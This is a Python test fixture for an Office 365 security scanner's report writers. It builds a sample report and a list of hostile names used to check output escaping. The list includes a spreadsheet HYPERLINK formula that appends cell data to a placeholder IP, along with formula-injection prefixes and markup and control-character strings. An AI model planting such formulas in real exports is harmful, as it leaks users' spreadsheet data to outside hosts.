"""A report that has one of everything: each verdict, a held failure, gaps of each kind, a plugin that broke."""

from __future__ import annotations

import io
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime

from o365scan.api import (
    EXCHANGE,
    HEADER,
    Baseline,
    Change,
    Check,
    Dataset,
    Evidence,
    ExchangeCmdlet,
    Finding,
    Gap,
    GapReason,
    Judgement,
    Permission,
    PluginFailure,
    PluginInfo,
    PluginNotice,
    Problem,
    Record,
    Report,
    Reporter,
    Severity,
    TenantInfo,
    Undecided,
    Verdict,
    check,
)
from tests.sarif.sample import CONNECTORS, MAILBOXES, inbound_connector_is_expected

TENANT = "11111111-2222-4333-8444-555555555555"
LICENCE = "Microsoft Entra ID P1"


def _dataset(name: str, licence: str | None = None) -> Dataset:
    return Dataset(
        name=f"exchange.{name}",
        source=ExchangeCmdlet(cmdlet="Get-TransportRule"),
        key="Guid",
        title="Name",
        type="TransportRule",
        permission=Permission(api=EXCHANGE, app_roles=("Exchange.ManageAsApp",)),
        reference="https://learn.microsoft.com/powershell/module/exchange/get-transportrule",
        licence=licence,
    )


RULES, LICENSED, ENRICHING = _dataset("rules"), _dataset("licensed", LICENCE), _dataset("enriching")


@check("exchange.rule-is-harmless", severity=Severity.MEDIUM, each=RULES, optional=(ENRICHING,))
def rule_is_harmless(_rule: Record) -> Iterator[Judgement]:
    yield from ()


@check("exchange.method-is-strong", severity=Severity.LOW, each=LICENSED)
def method_is_strong(_method: Record) -> Iterator[Judgement]:
    yield from ()


def _finding(by: Check, key: str, title: str, verdict: Verdict, *said: str, held: bool = False) -> Finding:
    evidence = (Evidence(by.subject.name, key, "/Enabled", True),)
    return Finding(
        check=by.id,
        dataset=by.subject.name,
        key=key,
        title=title,
        verdict=verdict,
        severity=by.severity,
        problems=tuple(Problem(each, evidence) for each in said) if verdict is Verdict.FAIL else (),
        reasons=tuple(Undecided(each) for each in said) if verdict is not Verdict.FAIL else (),
        held=held,
    )


CONNECTOR = inbound_connector_is_expected
FAILING = _finding(CONNECTOR, "1", "Partner", Verdict.FAIL, "Mail from anywhere is accepted.")
OPEN = _finding(CONNECTOR, "2", "Relay", Verdict.OPEN, "The field Enabled is missing")
IDLE = _finding(CONNECTOR, "3", "Off", Verdict.NOT_APPLICABLE, "It is switched off.")
PASSING = tuple(_finding(CONNECTOR, f"1{number}", f"Good {number}", Verdict.PASS) for number in range(5))
BLIND = replace(
    _finding(rule_is_harmless, HEADER, RULES.name, Verdict.OPEN),
    reasons=(Undecided("exchange.rules could not be read: denied", gap=RULES.name),),
)
UNLICENSED = replace(
    _finding(method_is_strong, HEADER, LICENSED.name, Verdict.OPEN),
    reasons=(Undecided("exchange.licensed could not be read", gap=LICENSED.name),),
)
HELD = _finding(rule_is_harmless, "9", "Hide", Verdict.FAIL, "A header is removed.", held=True)
HINT = "Reading it needs Global Reader."

GONE = replace(FAILING, key="gone", change=Change.GONE)
UNSETTLED = replace(FAILING, key="unsettled")

REPORT = Report(
    version="0.1.0",
    tenant=TenantInfo(TENANT, "Contoso", "contoso.com"),
    collected_at=datetime(2026, 3, 1, 5, 30, tzinfo=UTC),
    checks=(CONNECTOR, method_is_strong, rule_is_harmless),
    findings=(FAILING, *PASSING, OPEN, IDLE, UNLICENSED, BLIND),
    datasets={each.name: each for each in (CONNECTORS, MAILBOXES, RULES, LICENSED, ENRICHING)},
    gaps=(
        Gap(dataset=RULES.name, reason=GapReason.DENIED, detail="403", hint=HINT),
        Gap(dataset=LICENSED.name, reason=GapReason.NOT_LICENSED, detail="no licence"),
        Gap(dataset=ENRICHING.name, reason=GapReason.THROTTLED, detail="429", parent="7"),
    ),
    plugins=(PluginInfo("exchange", "o365scan", "0.1.0"),),
    failures=(PluginFailure("contoso", "load", "ModuleNotFoundError: no module"),),
    held=(HELD,),
    notices=(PluginNotice("fabrikam", "it uses a deprecated name"),),
    baseline=Baseline(
        source="sarif",
        tenant_id=TENANT,
        collected_at=datetime(2026, 2, 28, 5, 30, tzinfo=UTC),
        version="0.1.0",
        checks=frozenset({CONNECTOR.id}),
        findings=(FAILING, GONE, UNSETTLED),
    ),
    gone=(GONE,),
    unsettled=(UNSETTLED,),
)

#: Names as an intruder may choose them: formulas, markup, control characters, surrogates, bidirectional overrides.
HOSTILE = (
    '=HYPERLINK("http://192.0.2.1/"&A1,"x")',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "  =1",
    "\t=1",
    "\r=1",
    "\n=1",
    "\u3000\uff1d1",
    "\u200b=1",
    "\ufeff=1",
    "\x00=1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "\u22121",
    '"=1',
    "'=1",
    "a;=1",
    'a;"=1',
    "a\n=1",
    'a";"=1',
    "a,=1",
    "]]>",
    "<b>&amp;",
    "<!--",
    "\x1b[31m",
    "\ud800",
    "\ufffe",
    "\x85",
    "\u202egpj",
    "",
    " ",
    "x" * 40_000,
)


def hostile() -> Report:
    """The report with each hostile text as an object's name, a message and what is around them."""
    findings = tuple(
        _finding(CONNECTOR, f"k{number}", name, Verdict.FAIL, name) for number, name in enumerate(HOSTILE)
    )
    return replace(
        REPORT,
        tenant=TenantInfo(TENANT, HOSTILE[0], HOSTILE[-3]),
        findings=findings,
        gaps=tuple(
            Gap(dataset=RULES.name, reason=GapReason.DENIED, detail=each, hint=each, parent=each)
            for each in HOSTILE
        ),
        failures=tuple(PluginFailure(each, "load", each) for each in HOSTILE),
        notices=tuple(PluginNotice(each, each) for each in HOSTILE),
    )


def written(reporter: Reporter, report: Report, **options: str) -> str:
    """What a reporter writes of a report, by its own defaults where no option is given."""
    stream = io.StringIO(newline="")
    chosen = {each.name: each.choices[0] for each in reporter.options}
    reporter.write(report, stream, {**chosen, **options})
    return stream.getvalue()
